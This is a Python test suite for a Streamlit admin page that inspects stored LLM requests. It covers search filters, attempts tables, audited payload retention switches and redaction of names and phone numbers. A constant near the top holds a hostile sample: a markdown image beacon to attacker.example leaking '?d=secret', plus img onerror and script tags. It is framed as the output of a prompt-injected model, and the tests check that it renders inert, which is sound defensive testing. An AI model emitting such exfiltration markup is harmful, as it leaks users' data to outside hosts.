"""The Request inspector page: search, open a request (``?request=<id>`` or a selected row), every
attempt with its prompt and answer shown as inert text; the Plans page switch that keeps them,
audited; and the line on the user's Plan page that says so."""

from __future__ import annotations

from datetime import UTC, datetime, timedelta

from streamlit.testing.v1 import AppTest

from orchestrator.services.admin import plans
from orchestrator.services.reports.logs import audit_entries
from orchestrator.services.user import profiles
from tests.app.admin_helpers import ADMIN_PAGES, no_errors, page_as, plant_traffic, rendered_text
from tests.support import POSTING, operator

HOSTILE = ('Here you go ![x](https://attacker.example/beacon.png?d=secret) <img src=x onerror="alert(1)"> '
           ':red[boom] <script>alert(2)</script>')


def inspector_for(orch, request_id: str, email: str = "admin@example.com") -> AppTest:
    """The inspector opened at ``?request=<id>``, as the Usage log's button or a shared link opens it."""
    from orchestrator.services.admin.users import get_user

    at = AppTest.from_file(ADMIN_PAGES["request"], default_timeout=30)
    at.session_state["user"] = get_user(orch, email=email)
    at.query_params["request"] = request_id
    at.run()
    return at


def attempts_table(at):
    """The opened request's attempts (the last table on the page)."""
    return at.dataframe[-1].value


def kept_request(orch) -> str:
    """A request on a plan that keeps payloads, by free@ (who has a phone number in the profile)."""
    plans.set_limits(orch, code="freemium", keep_payloads=True, actor=operator())
    prof = profiles.get_profile(orch, user="free@example.com").model_dump()
    profiles.save_profile(orch, user="free@example.com", profile={**prof, "phone": "+49 30 1234 5678"})
    return orch.run("extract_job", user="free@example.com", text=POSTING + "\nContact Frida Free, +49 30 1234 5678.")\
        .request_id


def test_a_request_opens_with_its_attempts_prompt_and_answer(app_env):
    rid = kept_request(app_env)
    at = inspector_for(app_env, rid)
    no_errors(at)
    assert at.subheader[0].value == f"Request {rid}"
    assert any(c.value.startswith("free@example.com · Freemium plan · extract_job · from Python · started ")
               for c in at.caption)
    metrics = {m.label: m.value for m in at.metric}
    assert metrics["Outcome"] == "✔ success" and metrics["Attempts"] == "1"
    assert metrics["Cost"] == "$0.00"  # readable; the exact amount is in the tooltip
    assert next(m.help for m in at.metric if m.label == "Cost").startswith("Exactly $0, charged exactly $0")
    attempts = attempts_table(at)
    assert list(attempts["Provider"]) == ["offline"] and list(attempts["Finish"]) == ["stop"]
    codes = [c.value for c in at.code]
    prompt = next(c for c in codes if "Senior Python Engineer" in c and "<posting>" in c)
    assert "Contact [name], [phone]." in prompt and "Frida" not in prompt and "1234 5678" not in prompt
    assert any('"title": "Senior Python Engineer"' in c for c in codes)  # the answer


def test_a_request_of_a_plan_that_keeps_nothing_says_so(app_env):
    r = app_env.run("extract_job", user="free@example.com", text=POSTING)
    at = inspector_for(app_env, r.request_id)
    no_errors(at)
    assert not at.code
    assert any(c.value == "Not stored: the Freemium plan does not keep payloads." for c in at.caption)


def test_model_text_is_shown_inert(app_env):
    """An answer written by a prompt-injected model is shown as text: no image is fetched, no HTML or
    Streamlit directive is interpreted."""
    from orchestrator import ledger
    from orchestrator.providers.base import TokenUsage

    now = datetime.now(UTC)
    ledger.write(app_env.db, ledger.attempt_record(
        request_id="hostile01", attempt=1, user_id=None, plan="freemium", task="chat", provider="openai",
        provider_kind="openai", model="gpt-5-nano", status="success", usage=TokenUsage(input_tokens=5),
        timestamp=now))
    from db.models import RequestPayload

    with app_env.db.write() as s:
        s.add(RequestPayload(request_id="hostile01", attempt=1, created_at=now, expires_at=now + timedelta(days=1),
                             system="", prompt="hi", answer=HOSTILE, images=0))
    at = inspector_for(app_env, "hostile01")
    no_errors(at)
    assert [c.value for c in at.code if c.value == HOSTILE]  # shown verbatim in a code block
    rendered = [m.value for m in at.markdown] + [c.value for c in at.caption]
    assert not any("attacker.example" in t or "<img" in t or "<script>" in t for t in rendered)
    assert not at.get("html") and not at.get("image")


def test_search_filters_and_opening_a_result(app_env):
    ids = plant_traffic(app_env)
    at = page_as(app_env, "request")
    no_errors(at)
    table = at.dataframe[0].value
    assert len(table) == 8 and not at.subheader  # the default 7 days; nothing opened yet
    at.selectbox(key="insp_status").select("error").run()
    table = at.dataframe[0].value
    assert set(table["Request"]) == {ids["fallback"][0], ids["sonnet"][1]}
    at.selectbox(key="insp_status").select("All")
    at.selectbox(key="insp_provider").select("openai").run()
    assert list(at.dataframe[0].value["Request"]) == ids["fallback"]
    at.selectbox(key="insp_provider").select("All")
    at.text_input(key="insp_user").input("paygo").run()
    assert set(at.dataframe[0].value["Request"]) == set(ids["sonnet"])
    at.text_input(key="insp_user").input("")
    at.selectbox(key="insp_task").select("draft_cv").run()
    table = at.dataframe[0].value
    assert set(table["Request"]) == set(ids["sonnet"]) | set(ids["denied"])
    row = list(table["Request"]).index(ids["sonnet"][1])
    at.session_state["insp_table_1"] = {"selection": {"rows": [row], "columns": [], "cells": []}}
    at.run()
    no_errors(at)
    assert at.subheader[0].value == f"Request {ids['sonnet'][1]}"
    assert at.query_params["request"] == ids["sonnet"][1]  # the address opens it again
    attempts = attempts_table(at)
    assert list(attempts["Provider"]) == ["local", "anthropic"]
    assert list(attempts["Cost"])[0] == "⚠ unpriced" and list(attempts["Error"]) == ["timeout", ""]
    assert {m.label: m.value for m in at.metric}["Cost"] == "⚠ unpriced"


def test_search_pages_older_and_newer(app_env):
    from orchestrator import ledger
    from orchestrator.providers.base import TokenUsage

    now = datetime.now(UTC)
    for i in range(30):
        ledger.write(app_env.db, ledger.attempt_record(
            request_id=f"bulk{i:03d}", attempt=1, user_id=None, plan="freemium", task="extract_job",
            provider="offline", provider_kind="offline", model="offline-engine-v1", status="success",
            usage=TokenUsage(input_tokens=10, output_tokens=5), timestamp=now - timedelta(minutes=i)))
    at = page_as(app_env, "request")
    assert len(at.dataframe[0].value) == 25 and at.button(key="insp_newer").disabled
    at.button(key="insp_older").click().run()
    assert list(at.dataframe[0].value["Request"]) == [f"bulk{i:03d}" for i in range(25, 30)]
    assert at.button(key="insp_older").disabled
    at.button(key="insp_newer").click().run()
    assert at.dataframe[0].value.iloc[0]["Request"] == "bulk000"


def test_an_unknown_request_is_an_error_not_a_crash(app_env):
    at = inspector_for(app_env, "nothing-like-this")
    assert not at.exception
    assert [e.value for e in at.error] == ["No request nothing-like-this in the usage log."]


def test_the_plans_page_switch_keeps_payloads_and_is_audited(app_env):
    at = page_as(app_env, "plans")
    table = at.dataframe[0].value.set_index("Code")
    assert table.loc["freemium", "Prompts & answers"] == "not kept"
    at.toggle(key="keep:freemium").set_value(True).run()
    no_errors(at)
    assert next(p for p in plans.list_plans(app_env) if p.code == "freemium").keep_payloads
    days = app_env.settings.payload_retention_days
    assert at.dataframe[0].value.set_index("Code").loc["freemium", "Prompts & answers"] == f"kept {days} days"
    assert any("now keeps prompts and answers" in s.value for s in at.success)
    entry = audit_entries(app_env, action="plan.set_limits").rows[0]
    assert (entry.actor, entry.target_id, entry.before["keep_payloads"], entry.after["keep_payloads"]) == (
        "admin@example.com", "freemium", False, True)
    at.toggle(key="keep:freemium").set_value(False).run()
    assert not next(p for p in plans.list_plans(app_env) if p.code == "freemium").keep_payloads
    assert len(audit_entries(app_env, action="plan.set_limits").rows) == 2


def test_the_switch_follows_a_change_made_elsewhere_and_never_undoes_it(app_env):
    at = page_as(app_env, "plans")
    assert at.toggle(key="keep:freemium").value is False
    plans.set_limits(app_env, code="freemium", keep_payloads=True, actor=operator())  # the CLI, meanwhile
    at.text_input(key="ovr_query").input("free@").run()  # any other interaction reruns the page
    no_errors(at)
    assert at.toggle(key="keep:freemium").value is True
    assert next(p for p in plans.list_plans(app_env) if p.code == "freemium").keep_payloads
    assert len(audit_entries(app_env, action="plan.set_limits").rows) == 1


def test_the_user_sees_whether_their_plan_keeps_prompts(app_env):
    from tests.app.user_support import captions, open_page

    assert "does not keep the prompts and answers" in captions(open_page("free@example.com", "plan"))
    plans.set_limits(app_env, code="freemium", keep_payloads=True, actor=operator())
    days = app_env.settings.payload_retention_days
    text = captions(open_page("free@example.com", "plan"))
    assert f"keeps the prompts and answers of your requests for {days} days" in text


def test_no_secret_or_contact_detail_reaches_the_page(app_env):
    rid = kept_request(app_env)
    text = rendered_text(inspector_for(app_env, rid))
    assert "1234 5678" not in text and "Frida" not in text
